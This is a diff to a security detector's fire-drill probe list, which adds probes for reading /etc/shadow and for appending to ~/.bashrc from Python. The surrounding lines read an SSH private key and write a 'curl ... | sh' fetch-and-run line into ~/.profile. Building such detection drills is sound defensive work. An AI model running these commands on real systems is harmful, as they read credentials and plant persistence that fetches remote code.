@@ -159,7 +159,7 @@ PROBES: tuple[Probe, ...] = (
         "credential file",
         "read-ssh-key",
         "cat {home}/.ssh/id_ed25519 > /dev/null",
-        frozenset({"cred.ssh-key"}),
+        frozenset({"cred.ssh-key", "file.ssh-key-read"}),
         "warning",
         setup="mkdir -p -m 700 {home}/.ssh && echo 'coi fire drill: not a key' > "
         "{home}/.ssh/id_ed25519",
@@ -248,6 +248,23 @@ PROBES: tuple[Probe, ...] = (
         "echo 'curl -fsS http://{gateway}:{shell_port}/drill | sh' >> {home}/.profile",
         frozenset({"persist.shell-rc"}),
         "high",
+    ),
+    Probe(
+        "sensitive file read",
+        "read-shadow",
+        "sudo -n cat /etc/shadow > /dev/null",
+        frozenset({"file.shadow-read"}),
+        "high",
+        tools=("sudo",),
+    ),
+    Probe(
+        "sensitive file write",
+        "python-appends-bashrc",
+        # no command line names the file: only the file watcher sees it
+        'python3 -c \'import os; open(os.path.expanduser("~/.bashrc"), "a").write("#\\n")\'',
+        frozenset({"file.startup-write"}),
+        "high",
+        tools=("python3",),
     ),
     Probe(
         "spawn storm",
